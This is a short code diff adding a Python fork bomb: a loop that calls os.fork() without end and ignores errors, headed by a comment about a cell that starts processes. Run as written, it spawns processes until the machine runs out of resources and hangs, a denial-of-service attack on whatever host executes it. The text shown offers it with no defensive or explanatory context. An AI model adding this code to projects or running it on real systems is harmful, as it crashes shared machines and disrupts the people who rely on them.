@@ -1,0 +1,8 @@
+# A cell starts processes that start processes.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
